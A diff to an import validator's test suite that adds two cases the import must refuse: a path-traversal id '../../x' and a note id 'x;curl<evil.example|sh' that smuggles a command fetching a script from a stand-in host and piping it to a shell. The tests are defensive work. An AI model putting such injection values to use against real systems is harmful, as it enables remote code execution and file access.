@@ -92,6 +92,16 @@ test('[ST12] given an archive that no export wrote, it is refused with its line 
         [...notes, entry(next, { scopes: [`job_${'a'.repeat(1e6)}`] }), ...rows],
         /“scopes”/,
       ],
+      [
+        'a letter whose id leads to another folder',
+        [...notes, row('draft', '../../x', { ...draft, draftId: '../../x' }), ...rows],
+        /“draftId”/,
+      ],
+      [
+        'a note whose id is a command',
+        [...notes, entry(next, { id: 'x;curl<evil.example|sh' }), ...rows],
+        /“id” is not what it should be/,
+      ],
       ['a note about nothing that there is', [...notes, entry(next, { scopes: ['weather'] }), ...rows], /weather/],
       ['a note without a payload', [...notes, entry(next, { payload: undefined }), ...rows], /is missing/],
       ['a profile in no time zone', [...notes, entry(next, { payload: { zone: 'Mars/Base' } }), ...rows], /“zone”/],
